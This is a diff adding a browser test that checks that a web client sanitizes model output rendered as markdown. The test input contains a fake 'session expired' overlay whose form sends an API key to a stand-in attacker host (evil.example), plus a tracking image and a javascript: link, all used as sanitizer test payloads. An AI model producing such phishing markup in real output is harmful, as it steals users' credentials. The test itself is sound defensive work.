@@ -338,4 +338,43 @@ describe('web client in a browser', () => {
     expect(alerts).toEqual([]);
     await page.close();
   }, 60_000);
+
+  it('draws no form, overlay or image from model output, and shows where its links go', async () => {
+    const page = await open();
+    await page.check('input[name="mode"][value="jury"]');
+    await page.fill(
+      'textarea[name="content"]',
+      [
+        '<div style="position:fixed;inset:0;background:white"><form action="https://evil.example/steal">',
+        'Session expired, enter your API key <input name=key><button>Sign in</button></form></div>',
+        '',
+        '<img src=https://evil.example/x.png alt=pixel> [docs](https://evil.example/path) [js](javascript:alert(1))',
+      ].join('\n'),
+    );
+    await page.fill('input[name="modeConfig.jurorModels"]', 'sim/j1, sim/j2, sim/j3');
+    await page.fill('input[name="modeConfig.foremanModel"]', 'sim/f');
+    await page.click('button[type="submit"]');
+    await finished(page);
+    const card = page.locator('.content-card .markdown');
+    expect(await card.textContent()).toContain('Session expired');
+    expect(await page.locator('.markdown :is(form, input, button, img, [style], [class])').count()).toBe(0);
+    const links = await card.locator('a').evaluateAll((as) =>
+      as.map((a) => ({
+        href: a.getAttribute('href'),
+        rel: a.getAttribute('rel'),
+        target: a.getAttribute('target'),
+        text: a.textContent,
+      })),
+    );
+    expect(links).toEqual([
+      {
+        href: 'https://evil.example/path',
+        rel: 'noopener noreferrer nofollow',
+        target: '_blank',
+        text: expect.stringContaining('evil.example'),
+      },
+      { href: null, rel: null, target: null, text: 'js' },
+    ]);
+    await page.close();
+  }, 60_000);
 });
